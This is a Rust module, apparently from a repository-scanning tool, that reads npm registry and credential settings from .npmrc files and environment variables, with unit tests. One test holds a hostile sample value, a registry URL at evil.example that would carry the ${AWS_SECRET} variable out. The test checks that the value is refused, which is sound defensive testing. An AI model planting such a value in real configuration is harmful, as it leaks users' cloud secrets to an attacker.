//! What npm's configuration says of registries.

use super::ini::npm_pairs;
use crate::environment::registries::credentials::Credentials;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use std::collections::BTreeMap;
use url::Url;

/// Registries of one npmrc, or of several merged.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct NpmRegistries {
    /// `registry`.
    pub registry: Option<String>,
    /// `@scope:registry`, by scope with its `@`.
    pub scopes: BTreeMap<String, String>,
}

/// All that a user's own npm configuration says.
#[derive(Debug, Default)]
pub(super) struct UserNpm {
    pub(super) registries: NpmRegistries,
    pub(super) credentials: Credentials,
    /// `cafile`: a path.
    pub(super) cafile: Option<String>,
    pub(super) notes: Vec<String>,
}

/// Reads the `.npmrc` of a scanned repository: its registries and nothing else.
///
/// It is foreign text: credentials in it are not read, and a value with `${…}` is left out instead of being filled in.
pub fn of_project(text: &str) -> NpmRegistries {
    let mut registries = NpmRegistries::default();
    for (key, value) in npm_pairs(text) {
        if !key.contains("${") && !value.contains("${") {
            registries.take(&key, value);
        }
    }
    registries
}

/// Reads the user's own configuration: settings in falling order of weight, each text with the name that people know it by.
pub(super) fn of_user(texts: &[(&str, &str)], environment: &BTreeMap<String, String>) -> UserNpm {
    let mut user = UserNpm::default();
    let mut settings: BTreeMap<String, (String, &str)> = BTreeMap::new();
    for (source, text) in texts.iter().rev() {
        for (key, value) in npm_pairs(text) {
            settings.insert(expanded(&key, environment), (expanded(&value, environment), *source));
        }
    }
    for (key, value) in of_environment(environment) {
        settings.insert(key, value);
    }
    for (key, (value, source)) in &settings {
        match key.as_str() {
            "cafile" if !value.is_empty() && value != "null" => user.cafile = Some(value.clone()),
            "strict-ssl" if value == "false" => user.notes.push(format!("strict-ssl=false of {source} is not followed: certificates are always checked")),
            "_auth" | "_authToken" | "_password" => user.notes.push(format!("`{key}` of {source} is not used: it is bound to no host; write `//HOST/:{key}=…`")),
            key if key.starts_with("//") => {}
            key => user.registries.take(key, value.clone()),
        }
    }
    user.credentials = credentials(&settings, &mut user.notes);
    user
}

impl NpmRegistries {
    fn take(&mut self, key: &str, value: String) {
        if value.is_empty() {
            return;
        }
        if key == "registry" {
            self.registry = Some(value);
        } else if let Some(scope) = key.strip_suffix(":registry").filter(|scope| scope.starts_with('@')) {
            self.scopes.insert(scope.to_owned(), value);
        }
    }
}

/// `npm_config_registry` and its kind; names as npm makes them of the variables'.
fn of_environment(environment: &BTreeMap<String, String>) -> impl Iterator<Item = (String, (String, &'static str))> {
    const PREFIX: &str = "npm_config_";
    environment.iter().filter_map(|(name, value)| {
        let (prefix, rest) = name.split_at_checked(PREFIX.len())?;
        if !prefix.eq_ignore_ascii_case(PREFIX) || value.is_empty() {
            return None;
        }
        let key = if rest.starts_with("//") { rest.to_owned() } else { rest.to_lowercase().replace('_', "-") };
        Some((key, (value.clone(), "the environment (npm_config_…)")))
    })
}

/// Credentials by their `//host/path/:kind` keys: of one place a token goes before `_auth`, that before user and password.
fn credentials(settings: &BTreeMap<String, (String, &str)>, notes: &mut Vec<String>) -> Credentials {
    let mut credentials = Credentials::default();
    for kind in ["_authToken", "_auth", "_password", "certfile"] {
        for (key, (value, source)) in settings {
            let Some(place) = key.strip_suffix(kind).and_then(|rest| rest.strip_suffix(':')) else { continue };
            let Some(url) = place.strip_prefix("//").and_then(|place| Url::parse(&format!("https://{place}")).ok()) else {
                continue;
            };
            let setting = format!("{source} (`{place}:{kind}`)");
            if value.contains("${") {
                notes.push(format!("{setting} is not used: it names an environment variable that is not set"));
                continue;
            }
            match kind {
                "_authToken" => credentials.add_token(&url, value, &setting),
                "_auth" => credentials.add_basic(&url, value, &setting),
                "certfile" => notes.push(format!("{setting} is not used: client certificates are not supported")),
                _ => {
                    let password = STANDARD.decode(value).ok().and_then(|bytes| String::from_utf8(bytes).ok());
                    match (settings.get(&format!("{place}:username")), password) {
                        (Some((user, _)), Some(password)) => credentials.add_password(&url, user, &password, &setting),
                        _ => notes.push(format!("{setting} is not used: it needs `username` beside it, and to be base64")),
                    }
                }
            }
        }
    }
    credentials
}

/// Fills in `${NAME}` and `${NAME?}` (nothing where it is not set); `\${` stays. Else an unset one stays as written.
fn expanded(text: &str, environment: &BTreeMap<String, String>) -> String {
    let mut done = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("${") {
        let Some((name, behind)) = after.split_once('}') else { break };
        if let Some(before) = before.strip_suffix('\\') {
            done.push_str(before);
            done.push_str("${");
            rest = after;
            continue;
        }
        done.push_str(before);
        let (name, may_miss) = name.strip_suffix('?').map_or((name, false), |name| (name, true));
        match environment.get(name) {
            Some(value) => done.push_str(value),
            None if may_miss => {}
            None => done.extend(["${", name, "}"]),
        }
        rest = behind;
    }
    done + rest
}

#[cfg(test)]
mod tests {
    use super::*;

    fn user(text: &str, environment: &[(&str, &str)]) -> UserNpm {
        let environment = environment.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        of_user(&[("~/.npmrc", text)], &environment)
    }

    fn authorization(user: &UserNpm, url: &str) -> Option<String> {
        user.credentials.authorization(&Url::parse(url).unwrap()).map(|(value, _)| value.to_owned())
    }

    #[test]
    fn the_user_s_file_gives_registries_and_bound_credentials() {
        let user = user(
            "registry=https://registry.example/npm/\n@corp:registry=https://corp.example/\n//registry.example/npm/:_authToken=${TOKEN}\n//corp.example/:username=me\n//corp.example/:_password=cHc=\n",
            &[("TOKEN", "abc")],
        );
        assert_eq!(user.registries.registry.as_deref(), Some("https://registry.example/npm/"));
        assert_eq!(user.registries.scopes["@corp"], "https://corp.example/");
        assert_eq!(authorization(&user, "https://registry.example/npm/a").as_deref(), Some("Bearer abc"));
        assert_eq!(authorization(&user, "https://corp.example/a"), Some(format!("Basic {}", STANDARD.encode("me:pw"))));
        assert_eq!(user.notes, Vec::<String>::new());
    }

    #[test]
    fn a_repository_s_file_gives_registries_only_and_fills_nothing_in() {
        let found = of_project("registry=https://evil.example/?${AWS_SECRET}\n@a:registry=https://a.example/\n//a.example/:_authToken=x\n");
        let expect = NpmRegistries { registry: None, scopes: [("@a".to_owned(), "https://a.example/".to_owned())].into() };
        assert_eq!(found, expect);
    }

    #[test]
    fn an_unset_variable_is_no_token() {
        let user = user("//a.example/:_authToken=${NOT_SET}", &[]);
        assert_eq!(authorization(&user, "https://a.example/x"), None);
        assert_eq!(user.notes.len(), 1);
    }

    #[test]
    fn a_credential_bound_to_no_host_is_noted_and_not_used() {
        let user = user("_authToken=abc\nregistry=https://a.example/\nstrict-ssl=false", &[]);
        assert_eq!(authorization(&user, "https://a.example/x"), None);
        assert_eq!(user.notes.len(), 2);
        assert!(!user.notes.join("").contains("abc"));
    }

    #[test]
    fn the_environment_goes_before_the_file() {
        let user = user("registry=https://a.example/", &[("NPM_CONFIG_REGISTRY", "https://b.example/")]);
        assert_eq!(user.registries.registry.as_deref(), Some("https://b.example/"));
    }

    #[test]
    fn variables_are_filled_in_as_npm_does() {
        let environment = [("A".to_owned(), "1".to_owned())].into();
        for (text, expect) in [("x${A}y${A}", "x1y1"), ("${B?}z", "z"), ("${B}z", "${B}z"), ("\\${A}", "${A}"), ("${A", "${A")] {
            assert_eq!(expanded(text, &environment), expect, "{text}");
        }
    }
}
